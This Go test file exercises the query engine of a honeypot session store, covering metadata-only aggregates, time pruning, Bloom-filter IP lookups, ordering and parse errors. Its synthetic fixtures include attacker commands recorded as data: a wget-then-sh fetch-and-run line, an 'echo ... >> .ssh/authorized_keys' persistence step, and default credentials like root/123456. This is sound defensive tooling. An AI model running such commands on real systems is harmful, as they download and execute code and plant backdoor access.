package query

import (
	"errors"
	"fmt"
	"sort"
	"strings"
	"testing"
	"time"

	"honeynet/internal/obs"
	"honeynet/internal/session"
	"honeynet/internal/store"
)

// mkRecord builds a deterministic test record; month selects the
// partition, i varies content.
func mkRecord(month, i int) *session.Record {
	start := time.Date(2021, time.Month(5+month), 1, 0, 0, 0, 0, time.UTC).
		Add(time.Duration(i) * 97 * time.Second)
	r := &session.Record{
		ID:         uint64(month*1_000_000 + i),
		Start:      start,
		End:        start.Add(time.Duration(10+i%90) * time.Second),
		HoneypotID: fmt.Sprintf("hp-%d", i%3),
		ClientIP:   fmt.Sprintf("203.0.%d.%d", month, i%250),
		ClientPort: 40000 + i,
		Protocol:   session.ProtoSSH,
	}
	switch i % 4 {
	case 1:
		r.Logins = []session.LoginAttempt{{Username: "root", Password: "123456", Success: false}}
	case 2:
		r.Logins = []session.LoginAttempt{{Username: "admin", Password: "admin", Success: true}}
	case 3:
		r.Logins = []session.LoginAttempt{{Username: "root", Password: "admin", Success: true}}
		r.Commands = []session.Command{{Raw: fmt.Sprintf("wget http://x/%d.sh; sh %d.sh", i, i), Known: true}}
		r.Downloads = []session.Download{{URI: fmt.Sprintf("http://x/%d.sh", i), Hash: fmt.Sprintf("%064x", i)}}
		r.StateChanged = true
	}
	if i%7 == 0 {
		r.Protocol = session.ProtoTelnet
	}
	if i%13 == 3 {
		r.Commands = append(r.Commands, session.Command{Raw: "echo mdrfckr >> .ssh/authorized_keys", Known: true})
	}
	return r
}

// sealedStore builds a store with n records over months partitions,
// fully sealed.
func sealedStore(t *testing.T, n, months int) (*store.Store, []*session.Record) {
	t.Helper()
	s, err := store.Open(t.TempDir(), store.Options{BlockBytes: 2048})
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { s.Close() })
	recs := make([]*session.Record, 0, n)
	for i := 0; i < n; i++ {
		r := mkRecord(i%months, i)
		if err := s.Append(r); err != nil {
			t.Fatal(err)
		}
		recs = append(recs, r)
	}
	if err := s.Seal(); err != nil {
		t.Fatal(err)
	}
	return s, recs
}

// TestMetadataOnlyAggregate is the acceptance check: a kind/protocol-
// only GROUP BY month aggregate over a sealed store must complete with
// zero block reads, observable through the store's blocks-read counter,
// and EXPLAIN must report the pruning.
func TestMetadataOnlyAggregate(t *testing.T) {
	s, recs := sealedStore(t, 600, 3)
	reg := obs.NewRegistry()
	s.Register(reg)
	before := reg.Snapshot()

	res, err := Run(s, `EXPLAIN SELECT month, count(*) WHERE proto = 'ssh' GROUP BY month ORDER BY month`)
	if err != nil {
		t.Fatal(err)
	}

	after := reg.Snapshot()
	if got := after["honeynet_store_blocks_read_total"] - before["honeynet_store_blocks_read_total"]; got != 0 {
		t.Fatalf("metadata-only aggregate read %v blocks, want 0", got)
	}
	if st := res.Stats; st.Mode != "metadata" || st.BlocksRead != 0 || st.MetaSegments == 0 || st.BlocksSkipped == 0 {
		t.Fatalf("unexpected stats: %+v", st)
	}

	// Ground truth from the in-memory records.
	want := map[string]int64{}
	for _, r := range recs {
		if r.Protocol == session.ProtoSSH {
			want[r.Month().Format("2006-01")]++
		}
	}
	if len(res.Rows) != len(want) {
		t.Fatalf("got %d groups, want %d", len(res.Rows), len(want))
	}
	for _, row := range res.Rows {
		m := row[0].String()
		if row[1].Int != want[m] {
			t.Errorf("month %s: count %d, want %d", m, row[1].Int, want[m])
		}
	}

	if res.Explain == nil {
		t.Fatal("EXPLAIN returned no plan")
	}
	text := strings.Join(res.Explain, "\n")
	for _, frag := range []string{"plan: metadata", "time-pruned", "Bloom", "blocks skipped"} {
		if !strings.Contains(text, frag) {
			t.Errorf("EXPLAIN output missing %q:\n%s", frag, text)
		}
	}
}

// TestTimePushdownPrunesSegments checks month-bound predicates never
// touch other partitions' blocks and that EXPLAIN reports the pruning.
func TestTimePushdownPrunesSegments(t *testing.T) {
	s, recs := sealedStore(t, 600, 3)
	res, err := Run(s, `EXPLAIN SELECT count(*) WHERE month = '2021-06' AND cmd ~ /wget/`)
	if err != nil {
		t.Fatal(err)
	}
	st := res.Stats
	if st.TimePruned == 0 {
		t.Fatalf("expected time-pruned segments, got stats %+v", st)
	}
	var want int64
	for _, r := range recs {
		if r.Month().Format("2006-01") == "2021-06" && strings.Contains(r.CommandText(), "wget") {
			want++
		}
	}
	if got := res.Rows[0][0].Int; got != want {
		t.Fatalf("count = %d, want %d", got, want)
	}
}

// TestIPRouteUsesBloom checks an `ip =` predicate routes through the
// Bloom filters.
func TestIPRouteUsesBloom(t *testing.T) {
	s, recs := sealedStore(t, 600, 3)
	ip := recs[42].ClientIP
	res, err := Run(s, fmt.Sprintf(`SELECT * WHERE ip = '%s'`, ip))
	if err != nil {
		t.Fatal(err)
	}
	if res.Stats.Mode != "ip-scan" || res.Stats.BloomChecked == 0 {
		t.Fatalf("expected Bloom-routed ip-scan, got %+v", res.Stats)
	}
	var want int
	for _, r := range recs {
		if r.ClientIP == ip {
			want++
		}
	}
	if len(res.Records) != want {
		t.Fatalf("got %d records, want %d", len(res.Records), want)
	}
}

// TestProjectionSkipsFields checks projected queries produce the same
// values as full decodes.
func TestProjectionSkipsFields(t *testing.T) {
	s, recs := sealedStore(t, 200, 2)
	res, err := Run(s, `SELECT month, ip, port WHERE proto = 'ssh'`)
	if err != nil {
		t.Fatal(err)
	}
	// Rows stream in store order: month-major, append order within a
	// month (not global append order, which interleaves partitions).
	var want [][3]string
	for _, m := range []string{"2021-05", "2021-06"} {
		for _, r := range recs {
			if r.Protocol == session.ProtoSSH && r.Month().Format("2006-01") == m {
				want = append(want, [3]string{m, r.ClientIP, fmt.Sprint(r.ClientPort)})
			}
		}
	}
	if len(res.Rows) != len(want) {
		t.Fatalf("got %d rows, want %d", len(res.Rows), len(want))
	}
	for i, row := range res.Rows {
		got := [3]string{row[0].String(), row[1].String(), row[2].String()}
		if got != want[i] {
			t.Fatalf("row %d = %v, want %v", i, got, want[i])
		}
	}
}

// TestAggregates exercises sum/avg/min/max/count-distinct through the
// scan path.
func TestAggregates(t *testing.T) {
	s, recs := sealedStore(t, 300, 2)
	res, err := Run(s, `SELECT proto, count(*), count(distinct ip), min(start), max(port) GROUP BY proto ORDER BY proto`)
	if err != nil {
		t.Fatal(err)
	}
	type agg struct {
		n    int64
		ips  map[string]bool
		min  time.Time
		port int64
	}
	want := map[string]*agg{}
	for _, r := range recs {
		a := want[r.Protocol]
		if a == nil {
			a = &agg{ips: map[string]bool{}, min: r.Start}
			want[r.Protocol] = a
		}
		a.n++
		a.ips[r.ClientIP] = true
		if r.Start.Before(a.min) {
			a.min = r.Start
		}
		if int64(r.ClientPort) > a.port {
			a.port = int64(r.ClientPort)
		}
	}
	if len(res.Rows) != len(want) {
		t.Fatalf("got %d rows, want %d", len(res.Rows), len(want))
	}
	for _, row := range res.Rows {
		a := want[row[0].Str]
		if a == nil {
			t.Fatalf("unexpected proto %q", row[0].Str)
		}
		if row[1].Int != a.n || row[2].Int != int64(len(a.ips)) ||
			!row[3].Time.Equal(a.min) || row[4].Int != a.port {
			t.Fatalf("proto %s: got (%d,%d,%v,%d), want (%d,%d,%v,%d)",
				row[0].Str, row[1].Int, row[2].Int, row[3].Time, row[4].Int,
				a.n, int64(len(a.ips)), a.min, a.port)
		}
	}
}

// TestOrderByAndLimit checks ORDER BY on aggregate columns and LIMIT.
func TestOrderByAndLimit(t *testing.T) {
	s, _ := sealedStore(t, 400, 3)
	res, err := Run(s, `SELECT month, count(*) GROUP BY month ORDER BY count(*) DESC, month LIMIT 2`)
	if err != nil {
		t.Fatal(err)
	}
	if len(res.Rows) != 2 {
		t.Fatalf("LIMIT 2 returned %d rows", len(res.Rows))
	}
	if res.Rows[0][1].Int < res.Rows[1][1].Int {
		t.Fatalf("not sorted desc: %v", res.Rows)
	}
}

// TestRowOrderByPushdown: a row-mode ORDER BY/LIMIT lowers onto the
// store as a bounded top-k heap below the scan, EXPLAIN says so, and
// the rows come back in key order with store-order ties.
func TestRowOrderByPushdown(t *testing.T) {
	s, recs := sealedStore(t, 400, 3)
	res, err := Run(s, `EXPLAIN SELECT ip, port WHERE proto = 'ssh' ORDER BY port DESC LIMIT 5`)
	if err != nil {
		t.Fatal(err)
	}
	if len(res.Rows) != 5 {
		t.Fatalf("got %d rows, want 5", len(res.Rows))
	}
	// Ground truth: the 5 highest SSH ports (ports are unique here).
	var ports []int64
	for _, r := range recs {
		if r.Protocol == session.ProtoSSH {
			ports = append(ports, int64(r.ClientPort))
		}
	}
	sort.Slice(ports, func(i, j int) bool { return ports[i] > ports[j] })
	for i, row := range res.Rows {
		if row[1].Int != ports[i] {
			t.Fatalf("row %d: port %d, want %d", i, row[1].Int, ports[i])
		}
	}
	if res.Stats.TopK != 5 {
		t.Fatalf("stats.TopK = %d, want 5", res.Stats.TopK)
	}
	text := strings.Join(res.Explain, "\n")
	if !strings.Contains(text, "top-5 heap") {
		t.Fatalf("EXPLAIN missing the pushed-down sort:\n%s", text)
	}

	// ORDER BY on a field that is not selected works too: the store's
	// decode mask widens to cover the sort key.
	res, err = Run(s, `SELECT ip ORDER BY start DESC LIMIT 3`)
	if err != nil {
		t.Fatal(err)
	}
	if len(res.Rows) != 3 {
		t.Fatalf("got %d rows, want 3", len(res.Rows))
	}
	// SELECT * with ORDER BY streams full records in key order.
	res, err = Run(s, `SELECT * ORDER BY start LIMIT 4`)
	if err != nil {
		t.Fatal(err)
	}
	if len(res.Records) != 4 {
		t.Fatalf("got %d records, want 4", len(res.Records))
	}
	for i := 1; i < len(res.Records); i++ {
		if res.Records[i].Start.Before(res.Records[i-1].Start) {
			t.Fatalf("records not in start order")
		}
	}
}

// TestRowLimit checks LIMIT pushes into the streaming cursor.
func TestRowLimit(t *testing.T) {
	s, _ := sealedStore(t, 200, 2)
	res, err := Run(s, `SELECT * WHERE proto = 'ssh' LIMIT 5`)
	if err != nil {
		t.Fatal(err)
	}
	if len(res.Records) != 5 {
		t.Fatalf("got %d records, want 5", len(res.Records))
	}
}

// TestHybridFallback: a predicate metadata can only bound (start >= a
// mid-segment instant) must still produce exact results.
func TestHybridFallback(t *testing.T) {
	s, recs := sealedStore(t, 400, 2)
	cut := recs[123].Start
	q := fmt.Sprintf(`SELECT kind, count(*) WHERE start >= '%s' GROUP BY kind`, cut.Format(time.RFC3339))
	res, err := Run(s, q)
	if err != nil {
		t.Fatal(err)
	}
	want := map[string]int64{}
	for _, r := range recs {
		if !r.Start.Before(cut) {
			want[r.Kind().String()]++
		}
	}
	got := map[string]int64{}
	for _, row := range res.Rows {
		got[row[0].String()] = row[1].Int
	}
	if len(got) != len(want) {
		t.Fatalf("groups = %v, want %v", got, want)
	}
	for k, n := range want {
		if got[k] != n {
			t.Errorf("kind %s: %d, want %d", k, got[k], n)
		}
	}
}

// TestUnsealedTail: queries must see WAL-only records.
func TestUnsealedTail(t *testing.T) {
	s, err := store.Open(t.TempDir(), store.Options{})
	if err != nil {
		t.Fatal(err)
	}
	defer s.Close()
	for i := 0; i < 50; i++ {
		if err := s.Append(mkRecord(0, i)); err != nil {
			t.Fatal(err)
		}
	}
	res, err := Run(s, `SELECT count(*) GROUP BY month`)
	if err != nil {
		t.Fatal(err)
	}
	if len(res.Rows) != 1 || res.Rows[0][0].Int != 50 {
		t.Fatalf("tail aggregate = %v, want one group of 50", res.Rows)
	}
}

// TestParseErrors checks representative failures carry positions.
func TestParseErrors(t *testing.T) {
	cases := []string{
		``,
		`SELECT`,
		`SELECT month GROUP BY month`,
		`SELECT nosuch`,
		`SELECT count(*) WHERE proto =`,
		`SELECT count(*) WHERE proto = 'ssh`,
		`SELECT count(*) WHERE cmd ~ /unterminated`,
		`SELECT count(*) WHERE cmd ~ /bad(/`,
		`SELECT count(*) WHERE port = 'abc'`,
		`SELECT count(*) WHERE kind = 'nosuchkind'`,
		`SELECT count(*) WHERE month = '13-2021'`,
		`SELECT month, count(*) GROUP BY day`,
		`SELECT * ORDER BY user`,
		`SELECT * ORDER BY month, ip`,
		`SELECT * ORDER BY 2`,
		`SELECT ip ORDER BY count(*)`,
		`SELECT count(*) ORDER BY nosuch`,
		`SELECT sum(ip) `,
		`SELECT count(*) WHERE user < 'a'`,
		`SELECT count(*) trailing`,
		`SELECT count(*) WHERE duration ~ /x/`,
	}
	for _, src := range cases {
		_, err := Compile(src)
		if err == nil {
			t.Errorf("%q: expected error", src)
			continue
		}
		var se *SyntaxError
		if !errors.As(err, &se) {
			t.Errorf("%q: error %v is not a SyntaxError", src, err)
			continue
		}
		if se.Pos < 0 || se.Pos > len(src) {
			t.Errorf("%q: position %d out of range", src, se.Pos)
		}
	}
}

// TestCompileFilter checks the -where entry point.
func TestCompileFilter(t *testing.T) {
	f, err := CompileFilter(`proto = 'ssh' AND (user = 'root' OR NOT state_changed = true)`)
	if err != nil {
		t.Fatal(err)
	}
	r := mkRecord(0, 3) // ssh, root login, state changed
	if !f(r) {
		t.Fatal("filter rejected matching record")
	}
	r2 := mkRecord(0, 7) // telnet
	if f(r2) {
		t.Fatal("filter accepted telnet record")
	}
	if _, err := CompileFilter(`nosuch = 1`); err == nil {
		t.Fatal("expected error for unknown field")
	}
}

// TestFleetQuery checks scatter-gather aggregation merges shards.
func TestFleetQuery(t *testing.T) {
	dir := t.TempDir()
	if err := store.WriteFleetMarker(dir); err != nil {
		t.Fatal(err)
	}
	var all []*session.Record
	for n := 0; n < 3; n++ {
		s, err := store.Open(store.ShardDir(dir, fmt.Sprintf("n%d", n)), store.Options{BlockBytes: 2048})
		if err != nil {
			t.Fatal(err)
		}
		for i := 0; i < 150; i++ {
			r := mkRecord((n+i)%2, i*3+n)
			if err := s.Append(r); err != nil {
				t.Fatal(err)
			}
			all = append(all, r)
		}
		if err := s.Seal(); err != nil {
			t.Fatal(err)
		}
		s.Close()
	}
	fl, err := store.OpenFleet(dir, store.Options{ReadOnly: true})
	if err != nil {
		t.Fatal(err)
	}
	defer fl.Close()

	res, err := Run(fl, `SELECT month, count(*) WHERE proto = 'ssh' GROUP BY month ORDER BY month`)
	if err != nil {
		t.Fatal(err)
	}
	want := map[string]int64{}
	for _, r := range all {
		if r.Protocol == session.ProtoSSH {
			want[r.Month().Format("2006-01")]++
		}
	}
	if len(res.Rows) != len(want) {
		t.Fatalf("got %d groups, want %d", len(res.Rows), len(want))
	}
	for _, row := range res.Rows {
		if row[1].Int != want[row[0].String()] {
			t.Errorf("month %s: %d, want %d", row[0].String(), row[1].Int, want[row[0].String()])
		}
	}
	if res.Stats.Mode != "metadata" || res.Stats.BlocksRead != 0 {
		t.Fatalf("fleet aggregate should be metadata-only, got %+v", res.Stats)
	}
}
